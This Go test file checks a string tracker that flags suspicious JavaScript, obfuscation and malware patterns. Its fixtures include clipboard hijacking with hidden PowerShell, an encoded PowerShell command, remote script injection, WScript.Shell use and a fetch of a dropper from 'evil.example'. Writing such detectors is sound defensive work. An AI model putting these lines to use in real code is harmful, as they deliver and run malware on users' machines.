package strtrack

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
)

func codes(t *testing.T, tr *Tracker, s string) map[string]int {
	t.Helper()
	out := make(map[string]int)
	for _, d := range tr.Track(s, "test") {
		out[d.Code] = d.Severity
	}
	return out
}

func TestTrack_PatternLibrary(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  string
		sev   int
	}{
		{"sensitive function", `var x = "eval(payload)";`, "sensitive_function_in_string", 4},
		{"url", "see http://example.com/x", "url_in_string", 2},
		{"array shuffle", "var a=_0x3f1a[_0x2b9c % 7];", "array_shuffle_obfuscation", 7},
		{"hex identifiers", "_0xabcd+_0x1234+_0xbeef", "hex_variable_obfuscation", 6},
		{"large base64", strings.Repeat("QUJD", 260), "large_base64_blob", 6},
		{"iife", "(function(){ run(); })()", "iife_wrapper", 3},
		{"decode chain", "new TextDecoder().decode(atob(x)); document.write(y)", "three_stage_decode_chain", 9},
		{"dangerous tag", `<iframe src="x"></iframe>`, "dangerous_html_in_string", 6},
		{"mobile fingerprint", "if(/Android|iPhone/i.test(navigator.userAgent)){}", "mobile_fingerprinting", 5},
		{"malicious tool", `new ActiveXObject("WScript.Shell")`, "malicious_tool_reference", 8},
		{"clipboard hijack", `navigator.clipboard.writeText("powershell -w hidden iex(x)")`, "clipboard_hijack", 10},
		{"malicious command", "powershell -enc SQBFAFgAIAAoAE4AZQB3AA==", "malicious_command", 9},
		{"script injection", `var s=document.createElement('script');s.src='http://x/a.js';document.body.appendChild(s)`, "script_injection", 8},
	}
	for _, tt := range tests {
		t.Run("should detect "+tt.name, func(t *testing.T) {
			got := codes(t, NewTracker(zap.NewNop()), tt.input)
			require.Contains(t, got, tt.want)
			assert.Equal(t, tt.sev, got[tt.want])
		})
	}
}

func TestTrack_LongStringKeywords(t *testing.T) {
	s := "function run(){ var x = 1; if (x) { return new Date(); } }" + strings.Repeat(" ", 200)
	got := codes(t, NewTracker(zap.NewNop()), s)
	assert.Contains(t, got, "embedded_javascript")
}

func TestTrack_Dedup(t *testing.T) {
	tr := NewTracker(zap.NewNop())
	assert.NotEmpty(t, tr.Track("http://a.example/", "first"))
	assert.Empty(t, tr.Track("http://a.example/", "second"), "identical strings are analysed once")
	assert.Empty(t, tr.Track("", "empty"))

	hits, tracked := tr.Stats()
	assert.Equal(t, 1, tracked)
	assert.Equal(t, 1, hits["url_in_string"])
}

func TestTrack_BenignString(t *testing.T) {
	assert.Empty(t, NewTracker(zap.NewNop()).Track("hello world, nothing to see", "test"))
}

func TestExtractURLs(t *testing.T) {
	got := ExtractURLs(`a http://x.example/a.exe, b "https://y.example/?q=1" again http://x.example/a.exe`)
	assert.Equal(t, []string{"http://x.example/a.exe", "https://y.example/?q=1"}, got)
	assert.Nil(t, ExtractURLs("no urls"))
}

func TestRemoteMaliciousFile(t *testing.T) {
	u, ok := RemoteMaliciousFile(`fetch("http://evil.example/drop.ps1")`)
	assert.True(t, ok)
	assert.Equal(t, "http://evil.example/drop.ps1", u)

	_, ok = RemoteMaliciousFile("http://example.com/index.html")
	assert.False(t, ok)
}

func TestClassify(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  Class
	}{
		{"dotted access", "document.write('<b>hi</b>')", ClassPotentialJS},
		{"statements", "function f(a){ var b = g(a); return b; }", ClassPotentialJS},
		{"base64", strings.Repeat("YWJj", 30), ClassBase64},
		{"suspicious prose", "use powershell and cmd.exe from http://x.example", ClassSuspicious},
		{"plain", "just some words that mean nothing at all", ClassNone},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, Classify(tt.input))
		})
	}
}
